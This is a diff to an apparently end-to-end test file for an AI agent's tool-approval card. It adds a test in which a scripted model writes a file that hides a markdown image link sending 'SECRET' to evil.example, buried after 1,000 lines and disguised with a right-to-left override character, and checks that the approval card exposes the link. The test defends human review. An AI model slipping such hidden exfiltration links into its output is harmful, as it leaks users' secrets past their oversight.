@@ -82,6 +82,38 @@ export async function an_undo_that_would_lose_something_asks(set) {
   await stage.strike();
 }
 
+/** A question names everything that loads by itself, and shows on demand what it does not show at first. */
+export async function all_of_a_question_can_be_seen(set) {
+  const stage = await Stage.set(set);
+  const tab = await stage.open();
+  const evil = "![x](https://evil.example/?d=SE\u202eCRET)";
+  const content = `![logo](https://example.com/logo.png)\n${"a line\n".repeat(1_000)}${evil}\n`;
+  stage.model.next((turn) => turn.call("write_file", { path: "Shown.md", content }), (turn) => turn.text("It is written."));
+  await say(tab, "Write what the page says");
+  const card = tab.locator(".vs-approval");
+  await card.waitFor();
+  const why = await card.locator(".vs-approval-why li").allInnerTexts();
+  assert.equal(why.length, 2, why.join("\n"));
+  assert.match(why[0], /line 1,.*https:\/\/example\.com\/logo\.png/);
+  assert.match(why[1], /line 1002,.*https:\/\/evil\.example/);
+  assert.equal(await card.locator(".vs-added").innerText(), "+1002");
+  await picture(tab, "approval-long-light");
+  const all = card.getByRole("button", { name: /^Show all \(0 files, \d+ lines more\)$/ });
+  await all.click();
+  await all.waitFor({ state: "detached" });
+  // The diff view draws the first lines, and the others when they are asked for.
+  for (const more = card.getByRole("button", { name: /^Show \d+ more lines$/ }); (await more.count()) > 0; ) await more.first().click();
+  const last = await card.locator(".vs-diff-line .vs-diff-text").last().innerText();
+  assert.equal(last, evil.replace("\u202e", "\\u{202e}"));
+  assert.equal(await card.locator(".vs-diff-line").count(), 1002);
+  await card.getByRole("button", { name: "Reject" }).click();
+  await tab.locator(".vs-list").getByText("It is written.").waitFor();
+  await done(tab);
+  assert.equal(await stage.daemon.read("Shown.md").catch(() => null), null);
+  await stage.close(tab);
+  await stage.strike();
+}
+
 /** What needs a person is asked in a card with its diff; an answer elsewhere takes the card away. */
 export async function an_agreement_is_asked_for(set) {
   const stage = await Stage.set(set);
@@ -108,9 +140,11 @@ export async function an_agreement_is_asked_for(set) {
   // The heading that is looked for is still there as the beginning of the line.
   await say(tab, "Empty it");
   await tab.locator(".vs-approval").waitFor();
+  await other.locator(".vs-approval").getByLabel("Why not (optional)").fill("only the old ones");
   await other.locator(".vs-approval").getByRole("button", { name: "Reject" }).click();
   await tab.locator(".vs-approval").waitFor({ state: "detached" });
   await tab.locator(".vs-list").getByText("Then not.").waitFor();
+  await tab.locator(".vs-call-state").getByText("you refused").waitFor();
   await done(tab);
   assert.match(await stage.daemon.read("Inbox.md"), /# Inbox of Ana/);
   await until("count", () => tab.locator(".vs-call.is-failed").count(), (count) => count === 1);
@@ -119,7 +153,6 @@ export async function an_agreement_is_asked_for(set) {
   stage.model.next(folder("Garden/One.md"), folder("Garden/Two.md"), (turn) => turn.text("Both are there."));
   await say(tab, "Two notes for the garden");
   const always = tab.locator(".vs-approval").getByRole("button", { name: "Always for this folder: write_file in Garden", exact: true });
-  await until("time left", () => tab.locator(".vs-approval-left").innerText(), (text) => /^Counts as refused in \d+ (s|min)$/.test(text));
   assert.equal(await always.innerText(), "Always for this folder");
   await always.click();
   await tab.locator(".vs-list").getByText("Both are there.").waitFor();
